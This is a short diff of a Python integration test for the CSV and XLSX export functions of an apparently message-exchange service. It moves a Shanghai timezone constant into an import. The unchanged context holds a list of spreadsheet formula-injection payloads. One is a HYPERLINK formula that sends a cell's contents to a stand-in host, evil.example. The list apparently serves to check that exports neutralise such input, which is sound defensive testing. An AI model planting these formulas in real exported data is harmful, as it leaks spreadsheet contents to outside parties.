@@ -11,19 +11,17 @@ from __future__ import annotations
 import csv
 import io
 from datetime import datetime
-from zoneinfo import ZoneInfo
 
 import openpyxl
 import pytest
 
 from contracts import MessageType
 from exchange.entrypoints.http.exports import to_csv, to_xlsx
-from exchange.domain.clock import set_clock
+from exchange.domain.clock import SHANGHAI as CST, set_clock
 
 from tests.integration.conftest import Federation, eventually
 from tests.integration.test_round_trip import HAISHU, HUI, message
 
-CST = ZoneInfo("Asia/Shanghai")
 FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")", "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1",
             "-A1"]
 
